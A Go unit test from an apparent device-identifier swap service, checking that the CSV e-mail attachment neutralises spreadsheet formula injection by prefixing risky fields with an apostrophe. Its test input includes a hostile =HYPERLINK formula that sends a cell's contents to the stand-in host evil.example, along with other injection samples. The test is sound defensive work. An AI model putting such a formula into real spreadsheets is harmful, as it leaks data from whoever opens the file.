package process

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/idswap/idswap/internal/change"
	"github.com/idswap/idswap/internal/store"
)

// The e-mail's attachment goes through the one spreadsheet writer: a carrier message that a
// spreadsheet would run as a formula comes out inert, and identifiers come out as text.
func TestResultAttachmentNeutralisesCarrierText(t *testing.T) {
	hostile := `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
	rows := []store.DeviceChange{{ID: 1, BulkChangeID: 7, Status: change.StatusAPIFailed, StatusDetails: hostile,
		RowIdentifiers: store.RowIdentifiers{ICCID: "89148000004200000373", NewICCID: "89148000004200099995", MSISDN: "5125550100"},
		RequestID:      "+1 req"}}
	data, err := rowsCSV(rows, map[int64]string{1: "@SUM(1)"})
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(data), "\uFEFF"))).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("attachment: %v %q", err, data)
	}
	got := map[string]string{}
	for i, h := range recs[0] {
		got[h] = recs[1][i]
	}
	for col, want := range map[string]string{"details": "'" + hostile, "carrier_code": "'@SUM(1)", "carrier_request_id": "'+1 req",
		"current": "'5125550100", "new_iccid": "'89148000004200099995", "device_iccid": "'89148000004200000373"} {
		if got[col] != want {
			t.Errorf("%s = %q, want %q", col, got[col], want)
		}
	}
	for col, v := range got {
		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
			t.Errorf("%s starts a formula: %q", col, v)
		}
	}
}
